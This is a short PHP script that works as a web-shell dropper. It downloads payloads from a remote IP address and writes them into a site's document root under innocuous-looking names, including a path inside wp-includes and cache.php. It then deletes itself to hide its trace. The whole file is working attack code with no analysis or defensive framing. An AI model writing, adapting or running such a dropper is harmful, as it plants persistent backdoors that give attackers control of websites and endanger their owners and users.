<?php
// drops copies of a remote shell into the site through a small fetch helper, then removes itself
function pull($u)
{
    $h = curl_init($u);
    curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);
    curl_setopt($h, CURLOPT_CONNECTTIMEOUT, 10);
    $r = curl_exec($h);
    curl_close($h);
    return $r;
}

$root = $_SERVER['DOCUMENT_ROOT'];
$targets = array('/wp-includes/css/dist/sys.php' => 'http://203.0.113.77/s/a.txt', '/cache.php' => 'http://203.0.113.77/s/b.txt');
foreach ($targets as $where => $from) {
    $body = pull($from);
    $fh = fopen($root . $where, 'w');
    fwrite($fh, $body);
    fclose($fh);
}
$one = pull('http://203.0.113.77/s/c.txt');
$fh = fopen($root . '/tmp/up.php', 'w');
fwrite($fh, $one);
fclose($fh);
@unlink(__FILE__);
echo 'done';
